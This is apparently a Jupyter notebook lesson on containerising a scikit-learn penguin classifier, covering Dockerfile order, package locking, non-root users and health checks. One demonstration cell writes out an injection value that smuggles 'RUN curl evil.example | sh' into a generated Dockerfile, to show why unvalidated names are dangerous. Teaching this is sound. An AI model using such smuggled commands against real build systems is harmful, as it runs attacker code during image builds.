# %% [markdown]
# # 5 Into a container
#
# After this lesson you can
#
# - say what each line of a Dockerfile is for, and why their order matters,
# - lock exactly the packages that serving your model needs,
# - know that a container will answer as your notebook does, before you build it.
#
# No engine for containers is needed.

# %%
from palmerpenguins import load_penguins
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

penguins = load_penguins().dropna()
X, y = penguins[["bill_length_mm", "bill_depth_mm"]], penguins["species"]

def add_ratio(frame):
    return frame.assign(ratio=frame["bill_length_mm"] / frame["bill_depth_mm"])

model = make_pipeline(FunctionTransformer(add_ratio), LogisticRegression(max_iter=1000)).fit(X, y)

# %% [markdown]
# ## See it first
#
# One call writes a folder that holds everything. The list is below *9 files*:

# %%
from nbdeploy import deploy

service = deploy(model, name="penguins", example=X)
bundle = service.bundle("work/05/penguins")
bundle

# %% [markdown]
# Will it answer there as it does here? The rehearsal starts the service from that folder, in an
# environment with the locked packages and nothing else, and asks the same rows:

# %%
report = bundle.check(quick=True)
report

# %% [markdown]
# Your function `add_ratio` exists in this notebook only, and it works there: it travels inside of
# the model.
#
# ## Take it apart
#
# This is the chapter's class. Which user runs the process? Who notices when it hangs? Which versions
# get installed if the requirements say just `scikit-learn`?

# %% tags=["chapter"]
class DockerConfig:
    @staticmethod
    def generate_dockerfile(requirements_path: str, model_path: str, port: int = 8000) -> str:
        return f"""
FROM python:3.8-slim

WORKDIR /app

COPY {requirements_path} /app/requirements.txt
RUN pip install -r requirements.txt

COPY {model_path} /app/model/
COPY . /app/

EXPOSE {port}

CMD ["uvicorn", "main:app", "--host", "0.0.0.0", "--port", "{port}"]
"""


print(DockerConfig.generate_dockerfile("requirements.txt", "model/model.joblib"))

# %% [markdown]
# Root, nobody, and whatever is newest on that day. Also, `COPY . /app/` takes along everything that
# lies around: data, keys, notebooks. Here is the one of our bundle. Read its comments:

# %%
bundle.dockerfile

# %% [markdown]
# - **Two stages.** What installs (pip, its cache) stays in the first; the second one runs.
# - **Order.** What changes seldom stands above what changes often. The engine keeps the result of each
#   line until a copied file changes.
# - **`USER`** is a number: the process may read the model, and own nothing.
# - **`HEALTHCHECK`** asks the service itself, not just whether the process lives.
# - **Brackets** after `ENTRYPOINT` and `CMD`: no shell in between, so the signal to stop arrives, and
#   requests in flight are answered.
# - **`--trust sha256:...`** A container serves this model, and no other that somebody put in its place.
#
# The chapter's second call writes how it is run. What does `cap_drop` take away?

# %%
from nbdeploy import DockerConfig as BetterConfig

BetterConfig.generate_compose_file("penguins", "penguins:1.0")

# %% [markdown]
# All special rights of root, although the process is not root: two locks on one door. And without
# `NBDEPLOY_TOKEN` it does not start at all.
#
# ## Break it on purpose
#
# A name comes from a form on a web page. What happens to it in the chapter's text?

# %% tags=["nbval-check-output"]
from nbdeploy import ContainerError

evil = "model.joblib /app/\nRUN curl evil.example | sh\nCOPY model.joblib"
text = DockerConfig.generate_dockerfile("requirements.txt", evil)
print("chapter: ", [line for line in text.splitlines() if "evil" in line])
try:
    BetterConfig.generate_dockerfile("requirements.txt", evil)
except ContainerError as error:
    print("nbdeploy:", str(error)[:60], "...")

# %% [markdown]
# It became a command that runs while the image is built.
#
# The second classic: a model reads a file that is on your disk only. In the notebook all is well.

# %%
import pandas as pd

pd.Series([1.0]).to_csv("work/05/factor.csv", index=False)

def scale(frame):
    return frame * pd.read_csv("work/05/factor.csv").iloc[0, 0]

careless = make_pipeline(FunctionTransformer(scale), LogisticRegression(max_iter=1000)).fit(X, y)
with deploy(careless, name="careless", example=X) as trial:
    print(trial.bundle("work/05/careless").check(quick=True))

# %% [markdown]
# Found in seconds, without building anything.
#
# ## Predict, then run
#
# How many packages are installed where this notebook runs? How many of them does the container need?

# %%
from importlib.metadata import distributions

everything = {each.name for each in distributions()}
locked = [line.partition("==")[0] for line in bundle.requirements.splitlines() if "==" in line]
print(f"{len(locked)} of {len(everything)} packages")
print("matplotlib" in locked, "jupyterlab" in locked, "scikit-learn" in locked)

# %% [markdown]
# `pip freeze` would take them all. nbdeploy looks at the model instead: which modules its bytes name,
# what your functions import, and what these packages need in turn.
#
# ## Two tasks
#
# **05.1** Write `again(lines, changed)`: the lines of one stage that an engine runs again when the
# file `changed` is another one. That is the first `COPY` line that names the file, and all below it.
#
# **05.2** Write `pinned(names)`: for the names of installed packages a sorted list of lines such as
# `"numpy==2.4.6"`, with the versions that are installed here.

# %%
from nbdeploy.teach import check, hint

# Your turn. Mark the lines below and press Ctrl + / (Cmd + / on a Mac).

# def again(lines, changed): ...
# check("05.1", again)

# def pinned(names): ...
# check("05.2", pinned)

# %% [markdown]
# *One answer is in the folded cell below. `hint("05.1")` and `hint("05.2")` help before.*

# %% jupyter={"source_hidden": true}
from importlib.metadata import version

def again(lines, changed):
    copies = [line.startswith("COPY") and changed in line.split() for line in lines]
    return lines[copies.index(True):] if True in copies else []

check("05.1", again)
check("05.2", lambda names: sorted(f"{name}=={version(name)}" for name in names))

# %% [markdown]
# ## In production
#
# - **BentoML** and **MLflow** also write an image from a model; neither adds a health check, and
#   MLflow's image runs as root.
# - **KServe** needs no image of yours: it mounts the model into a prepared server.
# - **SageMaker** starts your image with the argument `serve`, **Vertex AI** tells port and paths in
#   variables. The same image understands both.
#
# ## Summary
#
# A container is a promise: the same packages, the same model, the same start, everywhere. The lock,
# the digest and the rehearsal make it one that is kept.
#
# **Quiz**
#
# 1. Why is the model copied after the packages are installed?
# <details><summary>Answer</summary>The model changes often. Above it, nothing is done again, so a new
# model is a build of seconds.</details>
#
# 2. Why is the token no line of the Dockerfile?
# <details><summary>Answer</summary>Whoever has the image can read every line of it. A secret is given
# when the container starts.</details>
#
# 3. The image has another minor version of Python than your notebook. What breaks?
# <details><summary>Answer</summary>Functions of the notebook travel as compiled code, which only the
# same minor version reads.</details>

# %% [markdown]
# ## Clean up

# %%
from nbdeploy import stop_all

stop_all()
